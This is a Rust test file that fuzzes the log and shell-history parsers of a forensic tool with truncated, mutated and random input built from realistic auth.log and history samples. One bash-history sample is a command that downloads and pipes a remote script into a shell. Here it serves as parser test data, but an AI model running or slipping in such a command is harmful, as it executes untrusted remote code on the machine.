//! Property-style checks that no parser panics on hostile input: random bytes, every
//! truncation of realistic lines, and random byte flips in them. A fuzz target under
//! `fuzz/` can take over from here; this runs in every `cargo test`.

use riposte_artifacts::{ArtifactContext, open_artifact, parsers};

/// Deterministic xorshift64*, so a failure reproduces.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const SAMPLES: &[&str] = &[
    "Dec 10 09:32:20 LabSZ sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2",
    "Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
    "Dec 10 08:24:35 LabSZ sshd[24361]: Failed password for invalid user  0101 from 5.188.10.180 port 36279 ssh2",
    "Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4  user=root",
    "Dec 10 07:27:50 LabSZ sshd[24235]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.36.59.76  user=root",
    "2024-03-01T10:00:00.123456+00:00 web1 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
    "Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
    "Mar  1 10:00:00 h useradd[900]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash",
    "Mar  1 10:00:01 h gpasswd[902]: user bob added by root to group wheel",
    ": 1700000005:3;for f in *; do\\\necho $f\\\ndone",
    "#1700000000\ncurl -s http://1.2.3.4/x | sh",
    "- cmd: echo a\\nb\n  when: 1700000000",
];

/// Paths that route to every registered parser.
const PATHS: &[&str] = &[
    "/var/log/auth.log",
    "/home/a/.bash_history",
    "/home/a/.zsh_history",
    "/root/.local/share/fish/fish_history",
];

fn run_all(bytes: &[u8]) {
    for path in PATHS {
        for parser in parsers() {
            let ctx = ArtifactContext {
                host: "h".into(),
                original_path: (*path).into(),
                modified: None,
            };
            let Ok(input) = open_artifact(bytes) else {
                continue;
            };
            for record in parser.parse(&ctx, input).take(10_000) {
                std::hint::black_box(record.ok());
            }
        }
    }
}

#[test]
fn every_truncation_of_realistic_lines_is_handled() {
    for sample in SAMPLES {
        let bytes = sample.as_bytes();
        for end in 0..=bytes.len() {
            run_all(&bytes[..end]);
        }
    }
}

#[test]
fn random_bytes_and_random_mutations_do_not_panic() {
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    for _ in 0..2_000 {
        let len = rng.below(300);
        let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        run_all(&bytes);
    }
    for _ in 0..3_000 {
        let mut bytes = SAMPLES[rng.below(SAMPLES.len())].as_bytes().to_vec();
        for _ in 0..1 + rng.below(4) {
            let alphabet = b"\n\r\\[]:;= \x83\xff0";
            let i = rng.below(bytes.len().max(1)).min(bytes.len());
            match rng.below(3) {
                0 if i < bytes.len() => bytes[i] = rng.next() as u8,
                1 if i < bytes.len() => {
                    bytes.remove(i);
                }
                _ => bytes.insert(i, alphabet[rng.below(alphabet.len())]),
            }
        }
        run_all(&bytes);
    }
}

#[test]
fn gzip_magic_followed_by_garbage_is_an_error_not_a_panic() {
    let mut rng = Rng(42);
    for _ in 0..500 {
        let mut bytes = vec![0x1f, 0x8b];
        bytes.extend((0..rng.below(64)).map(|_| rng.next() as u8));
        run_all(&bytes);
    }
}

#[test]
fn a_huge_line_without_newline_is_bounded() {
    let bytes = vec![b'a'; 3 * 1024 * 1024];
    run_all(&bytes);
}
